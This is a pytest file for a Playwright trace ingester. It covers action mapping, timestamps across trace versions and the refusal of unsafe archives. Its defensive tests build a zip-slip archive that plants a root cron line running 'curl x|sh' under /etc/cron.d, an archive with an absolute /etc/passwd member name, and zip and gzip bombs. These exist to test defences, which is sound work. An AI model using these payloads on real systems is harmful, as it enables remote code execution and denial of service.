import datetime as dt
import json
import zipfile

import pytest

from ingest.browser import playwright_trace
from ingest.safe_zip import Limits, SafeZip, gunzip
from ingest.source import SourceError
from tests.conftest import SAMPLES

TRACE = SAMPLES / "browser" / "playwright-trace" / "test-trace1.zip"


def test_trace_calls_become_steps_with_dom_snapshots_as_observations(run, query):
    result = run("ingest-browser", [TRACE])
    assert result.status == "success" and result.episodes == 1 and result.steps == 2
    steps = query("SELECT * FROM steps ORDER BY step_index")
    new_page, goto = steps[0]["action"], steps[1]["action"]
    assert new_page["kind"] == "code" and new_page["code"] == "browserContext.newPage({})"
    assert goto["kind"] == "navigate" and goto["text"] == "https://playwright.dev/"
    assert json.loads(goto["arguments"]) == {"url": "https://playwright.dev/", "waitUntil": "load"}
    assert json.loads(goto["raw"])["before"]["callId"] == "call@11"
    assert json.loads(goto["raw"])["after"]["endTime"] == 1126.362
    assert steps[0]["observation"]["kind"] == "none"  # no page existed before newPage
    before_goto = steps[1]["observation"]
    assert before_goto["url"] == "about:blank" and before_goto["width"] == 1280 and before_goto["height"] == 720
    final = steps[1]["final_observation"]  # after@call@11, rendered from the DOM snapshot
    assert final["url"] == "https://playwright.dev/" and final["title"] == "Playwright"
    assert final["text"].startswith("URL: https://playwright.dev/\nTitle: Playwright\n")
    assert 'link "Docs" -> /docs/intro' in final["text"]
    assert "heading1 \"Playwright enables reliable end-to-end testing for modern web apps.\"" in final["text"]
    assert json.loads(final["ui_tree"])[0] == "HTML"
    assert final["screenshot"] is None  # the archive does not hold its screencast JPEGs
    assert str(steps[1]["timestamp"]) == "2024-05-08 23:19:25.419000+00:00"
    assert steps[1]["is_terminal"]  # every call closed: the test script ran to its end
    ep = query("SELECT * FROM episodes")[0]
    assert ep["task"] == "simple.spec.ts:3 › my test" and ep["source_format"] == "playwright_trace"
    env = json.loads(ep["env"])
    assert env["trace_version"] == 6 and env["browser"] == "chromium" and env["requests"] == 18
    assert env["documents"][0] == {"url": "https://playwright.dev/", "status": 200}


def _rezip(src, dst, extra: dict[str, bytes] = (), drop=()):
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dst, "w", zipfile.ZIP_DEFLATED) as zout:
        for info in zin.infolist():
            if info.filename not in drop:
                zout.writestr(info.filename, zin.read(info))
        for name, data in dict(extra).items():
            zout.writestr(name, data)
    return dst


def test_screencast_frame_in_the_archive_goes_to_the_blob_store(run, query, tmp_path):
    jpeg = b"\xff\xd8\xff\xe0fake-jpeg-bytes"
    frame = "resources/page@14f363462352fa9b4aafdd3573fe6b07-1715210366.075412.jpeg"  # the frame at 1119.7 ms
    path = _rezip(TRACE, tmp_path / "trace.zip", {frame: jpeg})
    run("ingest-browser", [path])
    final = query("SELECT final_observation AS f FROM steps WHERE is_last")[0]["f"]
    assert final["screenshot"].startswith("sha256:")
    blob = query(f"SELECT * FROM blobs WHERE sha256 = '{final['screenshot'][7:]}'")[0]
    assert blob["size_bytes"] == len(jpeg) and blob["media_type"] == "image/jpeg"


def test_old_trace_version_is_refused_with_its_version(run, query, tmp_path):
    with zipfile.ZipFile(TRACE) as z:
        lines = z.read("0-trace.trace").decode().splitlines()
    lines[0] = lines[0].replace('"version":6', '"version":3')
    path = _rezip(TRACE, tmp_path / "old.zip", {"0-trace.trace": "\n".join(lines).encode()}, drop={"0-trace.trace"})
    result = run("ingest-browser", [path])
    assert result.episodes == 0
    row = query("SELECT * FROM quarantine")[0]
    assert row["rule"] == "unsupported_version" and "version 3" in row["reason"]


def test_zip_with_parent_paths_is_refused_before_reading(run, query, tmp_path):
    path = tmp_path / "evil.zip"
    with zipfile.ZipFile(path, "w") as z:
        z.writestr("0-trace.trace", b'{"version":6,"type":"context-options"}\n')
        z.writestr("../../etc/cron.d/owned", b"* * * * * root sh -c 'curl x|sh'\n")
    result = run("ingest-browser", [path])
    assert result.status == "success" and result.episodes == 0 and result.quarantined == 1
    row = query("SELECT * FROM quarantine")[0]
    assert row["rule"] == "unsafe_archive_path"
    assert "'../../etc/cron.d/owned' has an absolute or parent-relative path" in row["reason"]


def test_zip_bomb_is_refused_by_its_compression_ratio(run, query, tmp_path):
    path = tmp_path / "bomb.zip"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("0-trace.trace", b'{"version":6,"type":"context-options"}\n' + b" " * (16 << 20))
    assert path.stat().st_size < 100_000
    result = run("ingest-browser", [path])
    assert result.episodes == 0
    row = query("SELECT * FROM quarantine")[0]
    assert row["rule"] == "archive_too_large" and "a zip bomb" in row["reason"]
    assert "'0-trace.trace' expands" in row["reason"]


def test_safe_zip_limits_on_member_count_size_and_absolute_names(tmp_path):
    path = tmp_path / "many.zip"
    with zipfile.ZipFile(path, "w") as z:
        for i in range(5):
            z.writestr(f"f{i}", b"0123456789")
    with pytest.raises(SourceError) as err:
        SafeZip(path.read_bytes(), "many.zip", Limits(max_members=4))
    assert err.value.rule == "archive_too_large" and "5 members" in err.value.reason
    with pytest.raises(SourceError) as err:
        SafeZip(path.read_bytes(), "many.zip", Limits(max_total_bytes=40))
    assert err.value.rule == "archive_too_large" and "50 bytes" in err.value.reason
    with zipfile.ZipFile(abs_path := tmp_path / "abs.zip", "w") as z:
        z.writestr(zipfile.ZipInfo("/etc/passwd"), b"root")
    with pytest.raises(SourceError) as err:
        SafeZip(abs_path.read_bytes(), "abs.zip")
    assert err.value.rule == "unsafe_archive_path"
    with pytest.raises(SourceError) as err:
        SafeZip(b"not a zip", "x.zip")
    assert err.value.rule == "bad_archive"


def test_gunzip_refuses_a_gzip_bomb():
    import gzip

    bomb = gzip.compress(b"\0" * (8 << 20))
    with pytest.raises(SourceError) as err:
        gunzip(bomb, "step_0.pkl.gz")
    assert err.value.rule == "archive_too_large" and "gzip bomb" in err.value.reason
    assert gunzip(gzip.compress(b"hello"), "x.gz") == b"hello"


def test_trace_detection_sniffs_the_first_member():
    head = TRACE.read_bytes()[:4096]
    assert playwright_trace.looks_like_trace(head)
    assert not playwright_trace.looks_like_trace(b"PK\x03\x04" + b"\0" * 22 + b"\x08\0\0\0" + b"word.xml")


@pytest.mark.parametrize("method, params, kind, fields", [
    ("click", {"selector": "internal:role=button[name=\"Get started\"i]"}, "click",
     {"element": '{"selector":"internal:role=button[name=\\"Get started\\"i]"}'}),
    ("click", {"selector": "#menu", "button": "right"}, "right_click", {}),
    ("fill", {"selector": "#q", "value": "playwright"}, "type", {"text": "playwright"}),
    ("press", {"selector": "#q", "key": "Control+Enter"}, "hotkey", {"keys": ["Control", "Enter"]}),
    ("goBack", {}, "back", {}),
    ("mouseClick", {"x": 640, "y": 180}, "click", {"x": 0.5, "y": 0.25}),
    ("mouseWheel", {"deltaX": 0, "deltaY": -300}, "scroll", {"direction": "up"}),
    ("waitForTimeout", {"timeout": 1500}, "wait", {"duration_s": 1.5}),
    ("hover", {"selector": "text=Docs"}, "move", {"element": '{"selector":"text=Docs"}', "x": None}),
    ("mouseMove", {"x": 320, "y": 360}, "move", {"x": 0.25, "y": 0.5}),
    ("focus", {"selector": "#q"}, "code", {"code": 'frame.focus({"selector":"#q"})'}),
])
def test_api_calls_map_to_the_action_vocabulary(method, params, kind, fields):
    before = {"type": "before", "callId": "call@1", "method": method, "params": params,
              "apiName": f"frame.{method}"}
    action = playwright_trace.action_from_call(before, {"type": "after", "callId": "call@1"}, None,
                                               {"width": 1280, "height": 720})
    assert action.kind == kind and json.loads(action.raw)["before"] == before
    for name, value in fields.items():
        assert getattr(action, name) == value


VERSIONS = SAMPLES / "browser" / "playwright-trace-versions"


def _steps_of(query, name: str) -> tuple[dict, list[dict]]:
    ep = query(f"SELECT * FROM episodes WHERE source_uri LIKE '%{name}'")
    assert len(ep) == 1, ep
    return ep[0], query(f"SELECT * FROM steps WHERE episode_id = '{ep[0]['episode_id']}' ORDER BY step_index")


def test_v7_library_trace_times_come_from_the_context_time_origin(run, query):
    """From v7 a call has only its monotonic `startTime`; `context-options` has `wallTime` and
    `monotonicTime` read together: wall time = wallTime + (startTime - monotonicTime)."""
    result = run("ingest-browser", [VERSIONS / "trace-library-1.46.zip"])
    assert result.status == "success" and result.episodes == 1 and result.quarantined == 0
    ep, steps = _steps_of(query, "trace-library-1.46.zip")
    with zipfile.ZipFile(VERSIONS / "trace-library-1.46.zip") as z:
        events = [json.loads(line) for line in z.read("trace.trace").splitlines()]
    options = events[0]
    assert options["version"] == 7 and (options["wallTime"], options["monotonicTime"]) == (1721373582309, 644.342)
    starts = [e["startTime"] for e in events if e["type"] == "before"]
    expected = [dt.datetime.fromtimestamp((options["wallTime"] + s - options["monotonicTime"]) / 1000, dt.timezone.utc)
                for s in starts]
    assert [s["timestamp"] for s in steps] == expected
    assert str(steps[0]["timestamp"]) == "2024-07-19 07:19:42.313211+00:00"  # 1721373582309 + 648.553 - 644.342
    assert ep["started_at"] == steps[0]["timestamp"]
    assert [s["action"]["code"].split("(")[0] for s in steps] == [
        "page.setContent", "locator.getAttribute", "locator.isVisible", "locator.getAttribute", "locator.isVisible"]


def test_pre_v7_test_runner_chunk_is_the_runners_view_not_a_quarantined_chunk(run, query):
    """Playwright 1.37 wrote the runner's steps as `1-trace.trace`, with no `context-options` line: the runner's
    chunk, recognized by its `Test` steps (it used to be quarantined as 'trace format version None')."""
    result = run("ingest-browser", [VERSIONS / "trace-1.37.zip"])
    assert result.status == "success" and result.episodes == 1 and result.quarantined == 0
    ep, steps = _steps_of(query, "trace-1.37.zip")
    env = json.loads(ep["env"])
    assert env["chunk"] == "0-trace.trace" and env["trace_version"] == 4
    assert env["test_runner"] == {"chunks": ["1-trace.trace"], "steps": 16, "errors": []}
    assert ep["outcome"] == "unknown"  # no error, but the runner's After Hooks step was still open
    assert ep["task"] == "example.spec.ts:3 › example" and len(steps) == 6
    assert str(steps[0]["timestamp"]) == "2023-09-19 22:36:10.245000+00:00"  # v4: the call's own wallTime
    assert steps[3]["action"]["kind"] == "navigate" and steps[4]["observation"]["screenshot"].startswith("sha256:")


def test_v7_test_runner_trace_passed_test_is_a_success(run, query):
    result = run("ingest-browser", [VERSIONS / "trace-remote-time-diff.zip"])
    assert result.status == "success" and result.episodes == 1 and result.quarantined == 0
    ep, steps = _steps_of(query, "trace-remote-time-diff.zip")
    assert ep["outcome"] == "success" and ep["task"] == "example.spec.ts:3 › has title"
    env = json.loads(ep["env"])
    assert env["test_runner"]["chunks"] == ["test.trace"] and env["test_runner"]["errors"] == []
    # the remote browser's monotonic clock (57978616 ms) is mapped through its own context's time origin
    assert str(steps[0]["timestamp"]) == "2024-09-13 12:05:39.992345+00:00"
    assert [s["action"]["kind"] for s in steps] == ["code", "navigate", "code"]


def test_v10_library_trace_snapshots_by_call_and_phase_screencast_by_file(run, query):
    """Playwright 1.65 (v10): no snapshot names (a frame-snapshot names its callId and phase), no apiName,
    screencast frames as `screencast/<page>-<time>.jpeg` members, calls timed on the monotonic clock."""
    result = run("ingest-browser", [VERSIONS / "producer-python-library.zip"])
    assert result.status == "success" and result.episodes == 1 and result.quarantined == 0
    ep, steps = _steps_of(query, "producer-python-library.zip")
    assert [s["action"]["kind"] for s in steps] == ["code", "navigate", "type", "click", "wait", "hotkey", "click",
                                                     "back"]
    assert steps[0]["action"]["code"] == "browserContext.newPage({})"
    obs = [s["observation"] for s in steps]
    assert [o["url"].rsplit("/", 1)[-1] for o in obs[1:]] == ["about:blank"] + ["index.html"] * 5 + ["next.html"]
    assert obs[5]["title"] == "Greeter" and "Hi Ada" in obs[5]["text"]
    assert all(o["screenshot"].startswith("sha256:") for o in obs[2:])
    assert steps[-1]["final_observation"]["url"].endswith("/index.html")
    stamps = [s["timestamp"] for s in steps]
    assert str(stamps[0]) == "2026-12-03 08:45:06.535296+00:00"  # 1796287506529 + 947.354 - 941.058
    assert stamps == sorted(stamps) and stamps[-1] - stamps[0] < dt.timedelta(seconds=5)
    env = json.loads(ep["env"])
    assert env["trace_version"] == 10 and env["playwright_version"] == "1.65.1" and env["sdk_language"] == "python"


def test_v10_test_runner_trace_of_a_failed_test(run, query):
    """@playwright/test 1.65: the archive starts with the test's source (`src/<sha1>.js`), holds the runner's
    `test.trace`, the browser chunk and an API-request chunk that recorded no call (not quarantined)."""
    path = VERSIONS / "producer-test-runner-failed.zip"
    assert playwright_trace.looks_like_trace(path.read_bytes()[:4096])
    result = run("ingest-browser", [path])
    assert result.status == "success" and result.episodes == 1 and result.quarantined == 0
    ep, steps = _steps_of(query, "producer-test-runner-failed.zip")
    assert ep["outcome"] == "failure" and ep["task"] == "greeter.spec.js:12 › expects the wrong greeting"
    env = json.loads(ep["env"])
    assert env["chunk"] == "1-trace.trace" and env["test_runner"]["chunks"] == ["test.trace"]
    assert env["test_runner"]["errors"][0] == "Error: expect(locator).toHaveText(expected) failed"
    assert [s["action"]["kind"] for s in steps] == ["code", "navigate", "type", "click", "code"]
    final = steps[-1]["final_observation"]
    assert final["is_error"] and "Error: Expect failed" in final["text"]
    assert all(s["timestamp"] is not None for s in steps)


def test_archive_with_only_the_test_runners_chunk_says_so(run, query, tmp_path):
    src = VERSIONS / "trace-remote-time-diff.zip"
    path = _rezip(src, tmp_path / "runner-only.zip", drop={"0-trace.trace", "0-trace.stacks"})
    result = run("ingest-browser", [path])
    assert result.episodes == 0 and result.quarantined == 1
    row = query("SELECT * FROM quarantine")[0]
    assert row["rule"] == "empty_episode"
    assert row["reason"] == ("runner-only.zip: no browser call recorded; the archive holds only the test "
                             "runner's steps (test.trace)")


def test_trace_newer_than_the_reader_knows_is_refused(run, query, tmp_path):
    # Playwright's own fixture for this case (tests/assets/trace-from-the-future.zip) is version 10000
    with zipfile.ZipFile(VERSIONS / "trace-library-1.46.zip") as z:
        text = z.read("trace.trace").decode().replace('"version":7', '"version":10000', 1)
    path = _rezip(VERSIONS / "trace-library-1.46.zip", tmp_path / "future.zip", {"trace.trace": text.encode()},
                  drop={"trace.trace"})
    result = run("ingest-browser", [path])
    assert result.episodes == 0
    row = query("SELECT * FROM quarantine")[0]
    assert row["rule"] == "unsupported_version"
    assert "version 10000 is newer than this reader knows (4 to 10)" in row["reason"]
